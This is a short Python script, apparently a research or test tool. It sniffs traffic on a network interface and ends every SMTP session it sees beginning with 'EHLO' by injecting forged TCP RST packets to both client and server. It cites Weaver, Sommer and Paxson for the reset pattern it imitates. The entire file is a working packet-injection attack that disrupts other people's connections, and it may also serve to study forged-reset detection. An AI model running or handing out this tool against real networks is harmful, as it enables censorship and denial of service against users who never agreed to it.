# SPDX-License-Identifier: BSD-2-Clause
"""Ends the dialogues that pass by with forged RSTs.

    inject.py INTERFACE SERVER PORT [TTL]

For each segment to SERVER's PORT that begins with EHLO, both sides get three
RSTs in the name of the other, with sequence numbers that grow, a TTL of its
own and a fixed IP id: what Weaver, Sommer and Paxson describe.
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def reset(source, target, ports, sequence, ttl):
    tcp = struct.pack("!HHIIBBHHH", *ports, sequence & 0xffffffff, 0, 0x50, 4,
                      0, 0, 0)
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0x4242, 0, ttl, 6,
                       0) + source + target + tcp


def main():
    interface, server, port = sys.argv[1:4]
    ttl = int(sys.argv[4]) if len(sys.argv) > 4 else 250
    server, port = socket.inet_aton(server), int(port)
    ether = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                          socket.htons(3))
    ether.bind((interface, 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    while True:
        packet = ether.recv(65536)
        if packet[0] >> 4 != 4 or packet[9] != 6 or packet[16:20] != server:
            continue
        header = (packet[0] & 15) * 4
        client = packet[12:16]
        fields = struct.unpack_from("!HHIIB", packet, header)
        length = struct.unpack_from("!H", packet, 2)[0]
        data = packet[header + (fields[4] >> 4) * 4:length]
        if fields[1] != port or not data.startswith(b"EHLO"):
            continue
        for more in (0, 1460, 4380):
            raw.sendto(reset(client, server, fields[:2],
                             fields[2] + len(data) + more, ttl),
                       (socket.inet_ntoa(server), 0))
            raw.sendto(reset(server, client, fields[1::-1],
                             fields[3] + more, ttl),
                       (socket.inet_ntoa(client), 0))


main()
